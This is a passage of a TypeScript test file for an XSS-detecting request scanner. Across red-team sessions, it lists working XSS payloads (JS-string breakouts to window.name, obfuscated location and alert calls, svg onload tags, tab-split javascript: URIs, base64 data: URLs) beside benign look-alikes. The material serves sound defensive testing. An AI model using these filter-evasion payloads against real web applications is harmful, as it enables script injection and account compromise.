    const r = d.scan(context === 'json' ? input : encodeURIComponent(input), { context });
    expect(ruleIds(r)).toContain('xss.js-breakout');
    expect(r.blocked).toBe(true);
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...clean, ...clean.map(asForm), ...hits.map(encodeURIComponent)], c);
  });
  it("reads a %27 the same where the scanner's chunks split it (a value of more than 3,584 bytes)", () => {
    for (let pad = 3570; pad < 3590; pad++) {
      const head = 'a'.repeat(pad) + '+';
      expect(d.scan(head + asForm(clean[0]), { context: 'form' }).blocked).toBe(false);
      expect(d.scan(head + encodeURIComponent(hits[1]), { context: 'form' }).blocked).toBe(true);
    }
  });
});

// session 21 (red team rtd24 15): the computed global member (window['loc'+'ation']) read as JavaScript reads it: `this` is
// the global object at a classic script's top level, spaces, a line break or a comment may stand before the '[', and a
// member of the computed name may be what is assigned or called (.href= ['href']= .assign()). Each navigates to
// window.name's URL in the page var q = '<value>'. The hits fail before; the clean rows keep comparisons, an index read
// and ordinary code (its strings closed by itself).
describe('xss: the computed global member spelled otherwise (session 21)', () => {
  const hits = [
    "';this['loc'+'ation']=name//", "';window /**/['loc'+'ation']=name//", "';window\n['loc'+'ation']=name//",
    "';window ['loc'+'ation'] = name//", "';window['loc'+'ation'].href=name//", "';window['loc'+'ation']['href']=name//",
    "';self['loc'+'ation'].assign(name)//", "';top['loc'+'ation'].href = name//", "';window//x\n['loc'+'ation']=name//",
  ];
  const clean = [
    "';window['loc'+'ation'].href==name//", "';this['a'+'b'].c", "x = 'a'; this['on' + ev] = h;", "'x'\nwindow ['a'+'b'] = c",
    "the window ['a'+'b'] form", "var k = 'a';\nthis['my' + k].href = u;",
  ];
  jsBreakoutCases(hits, clean);
});


// session 21: the global's member named by any computed index, not only pieces added with '+': a variable holding the
// name (';x='loc'+'ation';window[x]=name//), a call (window['loc'.concat('ation')]) or a template's ${ hide location as the
// pieces do; code that means a member it knows writes its name. A literal string or number index stays xss.ts's. The
// hits fail before; the clean rows keep literal indexes, a comparison and ordinary code that closes its own strings.
describe('xss: a global member named by a computed index (session 21)', () => {
  const hits = [
    "';x='loc'+'ation';window[x]=name//", "';window[`loc${''}ation`]=name//", "';window['loc'.concat('ation')]=name//",
    "';this[k].href=name//", "';self[k] = name//", "${top[k]=name}",
  ];
  const clean = [
    "';window['x']=name//", "';window[0]=1//", "';window[k]==name//", "var k = 'a';\nwindow[k] = 1;", "x = a['b']; window[k] = v",
    "';window[\"a]\"]=b//", "see 'a'\nwindow [k] = v",
  ];
  jsBreakoutCases(hits, clean);
});

// session 21 (red team rtd24 15): U+2028 and U+2029 end a line to JavaScript as LF does (a // comment ends there), so the
// decoder reads them as a line break: raw, as %E2%80%A8, or as a \u2028 escape. Each navigates to window.name's URL in
// the page var q = '<value>'. The hits fail before; the clean rows are prose with the separators.
describe('xss: U+2028 and U+2029 end a line comment (session 21)', () => {
  const hits = ["';location//x\u2028=name//", "';location//x\u2029=name//", "'//x\u2028location=name//", "';location.href//c\u2029=name//"];
  const contexts = ['query', 'form', 'json'] as const;
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-breakout', (input, context) => {
    for (const sent of [input, encodeURIComponent(input), input.replace(/[\u2028\u2029]/g, (m) => '\\u' + m.charCodeAt(0).toString(16))]) {
      if (context === 'json' && sent.includes('%')) continue;
      const r = d.scan(sent, { context });
      expect(ruleIds(r)).toContain('xss.js-breakout');
      expect(r.blocked).toBe(true);
    }
  });
  const clean = ['First line\u2028second line', 'Paragraph one.\u2029Paragraph two', "It's here\u2028location = Paris", 'a // b\u2028c = d'];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(input, { context }).blocked).toBe(false);
    if (context !== 'json') expect(d.scan(encodeURIComponent(input), { context }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...hits.map(encodeURIComponent), ...clean], c);
  });
});

// session 22: the receiver of the computed global member is a class, not one word: the global parenthesized ((window),
// ((self)), (0,top): a sequence's last value), reached through document.defaultView, or followed by the optional chain's
// '?.' (window?.['loc'+'ation'].assign(name)); location's methods and print through '?.' too. Each was run in the page
// var q = '<value>' (node's vm, V8 as in Chromium, window = self = top = globalThis the global object, name =
// 'javascript:x'): each navigated to name's URL (or called print). ';window?.['loc'+'ation']=name// is a SyntaxError in
// every engine (an optional chain is no assignment target), so it runs nothing; it is flagged as the same attempt (no
// ordinary text writes it). The hits fail before; the clean rows are optional chains and parenthesized globals in
// ordinary code, a conditional's '?' after a quoted word, and a comparison.
describe('xss: the computed global member through a parenthesized global or ?. (session 22)', () => {
  const hits = [
    "';(window)['loc'+'ation']=name//", "';((self))['loc'+'ation']=name//", "';(0,top)['loc'+'ation']=name//",
    "';(globalThis)['loc'+'ation'].href=name//", "';window?.['loc'+'ation'].assign(name)//",
    "';self?.['loc'+'ation']?.assign?.(name)//", "';location?.assign(name)//", "';window?.location?.replace(name)//",
    "';location?.['assign'](name)//", "'-print?.()-'", "';document.defaultView['loc'+'ation']=name//",
    "';window?.['loc'+'ation']=name//", // (a SyntaxError: flagged as the attempt it is)
  ];
  const clean = [
    "const v = obj?.['key'];", "window?.dataLayer?.push({event: 'signup'})", "It's 'home'; location? Unknown", "(window).foo = 1",
    "const t = 'a'; (window)[t] = 1", "Did he say 'yes'? window?.open later", "';location?.href==name//", "';(window)['x']=1//",
    "Is it 'top'? parent? or self?",
  ];
  jsBreakoutCases(hits, clean);
});

// session 22: a global indexed by a computed name and called, through the optional chain: window?.['al'+'ert'](1),
// self?.['al'+'ert']?.(1), top['con'+'firm']?.(1), (window)?.['al'+'ert'](1). Each called alert (or confirm) in the page
// var q = '<value>' (node's vm, as above: `'-x-'` subtracts the call's result, so the call runs). '-alert?.(1)-' and
// "><svg/onload=alert?.()> were already blocked (pinned here; the second runs alert when the value lands in an attribute
// value: the quote and '>' close the tag, the <svg>'s load event runs the handler). The first four fail before.
describe('xss: a computed global member called through ?. (session 22)', () => {
  const contexts = ['query', 'form', 'json'] as const;
  const hits = [
    "'-window?.['al'+'ert'](1)-'", "'-self?.['al'+'ert']?.(1)-'", "'-top['con'+'firm']?.(1)-'", "'-(window)?.['al'+'ert'](1)-'",
    "'-alert?.(1)-'", '"><svg/onload=alert?.()>',
  ];
  const asSent = (input: string, context: string) => (context === 'json' ? JSON.stringify({ q: input }) : encodeURIComponent(input));
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-sink', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.js-sink');
    expect(r.blocked).toBe(true);
  });
  const clean = ["const v = obj?.['key'];", "cb = opts?.['on' + ev]?.(e);", "window?.['my'+'App']", "is it 'a'? b"];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
  });
});

// session 22: a bare <script> is held whatever its body. A release of bodies that open with two names side by side (a
// SyntaxError in V8: "<script> tag embeds JavaScript") was tried and reverted after a red team: the scanner reads the body
// decoded and the browser does not — top&Tab;location=name;var Tab (entities are not decoded inside <script>), top%2520e1;…
// (an application decodes once: top%20e1 is top % 20e1) and top+top;… (decodeURIComponent keeps '+') are two names to the
// scanner and running code to V8, which navigated to window.name in each.
describe('xss: a bare <script> stays a script-tag whatever its body (session 22)', () => {
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
  const hits = [
    '<script>top&Tab;location=name;var Tab//', '<script>top&nbsp;location=name;var nbsp//', '<script>top%20e1;location=name//',
    '<script>top+top;location=name//', '<script> x y', 'The <script> tag embeds JavaScript',
  ];
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a script-tag', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.script-tag');
    expect(r.blocked).toBe(true);
  });
});

// session 22: an attribute break-out (a quote, then '>') followed by a complete start tag writes an element into the page
// whatever its name: what scanners send to see their markup come back (xss.breakout-tag). The name: a letter, then letters,
// digits and '_', with '-' between parts; closed by '>' or '/>' glued to it. After leaving a JavaScript string (a quote and an
// operator or ';' glued to the '<') only a self-closing tag counts. Until now these scored 2 (xss.attribute-breakout alone) or
// nothing; the hits fail on the earlier code. The look-alikes: prose with a quote and '>' but no tag after it, a '<' before
// a digit (no tag in HTML), a tag with no break-out before it, and break-outs whose tag is left unfinished.
describe('xss: a complete tag of any name after a break-out (session 22)', () => {
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
  const hits = [
    '"><qq>', "'\"><h2>hello", '"><zq7k2>', '"><my_widget/>', "'><a-b-c9>", '" ><p>', 'x"><em>', '"><x-1_y/>',
    "'-;<my_widget/>", '";<qq-z/>', "'}<w9/>", "'|<q_q/>",
  ];
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a breakout-tag', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.breakout-tag');
    expect(r.blocked).toBe(true);
  });
  const clean = [
    '5" > 3"', 'He said "yes"> ok', '<3', 'a <b> c', '"> quote', '> "quoted" text', 'I <3 "you"> <3 them', 'size 5" > <4 ft',
    'if "a" > b then', '<b>bold</b> and "x"',
  ];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  // break-outs whose tag is unfinished, closing, or has a name HTML does not read as one: no breakout-tag (other rules
  // may still report them)
  const partial = ['"><qq', '"><qq-', '"></qq>', '"><9q>', '"><qq >', '"><qq/ >', "'-;<qq>", "'<qq/>", '"><qq.z>'];
  it.each(partial)('%j is no breakout-tag', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.breakout-tag');
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean, ...partial].map((h) => asSent(h, c)), c);
  });
});

// session 22: a space inside a scheme's name makes no scheme: browsers drop tab, CR and LF from a URL (java<TAB>script: is
// javascript:), never a space, so "java script:void(1)" names no URL, however the space is written (' ', '+',
// %20, &#32;). The decoder folds a tab into a space, so it notes where tabs went (decode.ts's TABS) and the join reads
// that. The clean rows fail on the earlier code (xss.js-uri); the tab, line-feed and CR spellings stay js-uri, also when
// the value is split right after the tab (the lexer's held byte, decoded in the chunk before).
describe('xss: a space inside a script scheme is no scheme (session 22)', () => {
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
  const clean = ['java script:void(1)', 'java script: history.back()', 'vb script: basics', 'java&#32;script: void(0)', 'java&#x20;script:void', 'live script: notes'];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is no js-uri', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).not.toContain('xss.js-uri');
    expect(r.blocked).toBe(false);
  });
  it.each(['java%20script:void(0)', 'java+script:void(0)', 'java%2520script:void(0)'])('%j in query is no js-uri', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-uri');
  });
  const hits = [
    'java\tscript:void(0)', 'jav&#x09;ascript:void(0)', 'java&#10;script:void(0)', 'java&#9;script:void(0)', 'java&Tab;script:void(0)',
    'java\nscript:void(0)', 'java\r\nscript:void(0)', 'vb\tscript:msgbox', 'j\ta\tv\ta\ts\tc\tr\ti\tp\tt:void(0)', 'java\t script:void(0)',
  ];
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-uri', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.js-uri');
    expect(r.blocked).toBe(true);
  });
  it.each(['java%09script:void(0)', 'java%2509script:void(0)', 'java%0Ascript:void(0)'])('%j in query is a js-uri', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-uri');
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
    expectSameWhenSplit(d, ['java%09script:void(0)', 'java%20script:void(0)', 'x '.repeat(40) + 'java%09script:void(0)'], 'query');
  });
});

// Red team rt27x (session 23, Chromium): a data: URL a <script src> runs as script (no media type, base64 content: data:;base64,
// YWxlcnQoMSk= alerted) and XML documents by a '+xml' suffix (data:application/xhtml+xml;base64,… and rss+xml ran their
// <script> in an <iframe src>) passed; text/xml, image/svg+xml and data:text/html were already blocked.
describe('xss: data:;base64, and +xml document types (session 23)', () => {
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) => (context === 'json' ? input : encodeURIComponent(input));
  const hits = ['data:;base64,YWxlcnQoMSk=', 'data:;charset=utf-8;base64,YWxlcnQoMSk=', 'data:application/xhtml+xml;base64,PGh0bWw+',
    'data:Application/XHTML+XML;base64,PGh0bWw+', 'data:application/rss+xml;base64,PGh0bWw+', 'data:application/atom+xml,<x:script/>'];
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is a js-uri', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('xss.js-uri');
    expect(r.blocked).toBe(true);
  });
  const clean = ['data:image/png;base64,iVBORw0KGgo=', 'data:,Hello', 'data:;charset=utf-8,hello', 'data:application/json;base64,e30=',
    'data:application/ld+json;base64,e30=', 'data:text/plain;base64,SGVsbG8='];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits, ...clean].map((h) => asSent(h, c)), c);
  });
});

// Red team rt27x (session 23, Chromium): after a JS-string break-out, a global indexed by a decoder named with a tagged template
// (self[atob`YWxlcnQ`](1): the backtick read as a code span closing on the name) and an index string spelled in legacy octal
// escapes (top['\141lert'](1): the backslash ended the index) ran alert.
describe('xss: self[atob`…`] and top[\'\\141lert\'] after a break-out (session 23)', () => {
  const hits = ["'-self[atob`YWxlcnQ`](1)-'", "'-[1].map(self[atob`YWxlcnQ`])-'", "'-self[atob`ZXZhbA`](name)-'", '${self[atob`YWxlcnQ`](1)}',
    'top[alert``]', "'-top['\\141\\154\\145\\162\\164'](1)-'", "';top['\\141lert'](1)//", "'-self['\\145val'](name)-'",
    '"-self["\\141lert"](1)-"', "'-frames['\\141lert']`1`-'"];
  it.each(hits)('%s is a js-sink', (input) => {
    for (const context of ['json', 'body'] as const) {
      const r = d.scan(input, { context });
      expect(ruleIds(r), context).toContain('xss.js-sink');
      expect(r.blocked, context).toBe(true);
    }
    expect(d.scan(encodeURIComponent(input), { context: 'query' }).blocked).toBe(true);
  });
  it.each(['`document.cookie`', 'window[fnName](args)', 'obj[key]', 'C:\\data\\101\\report.pdf', "path['\\101']"])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'json' }).blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, hits, 'json'); });
});
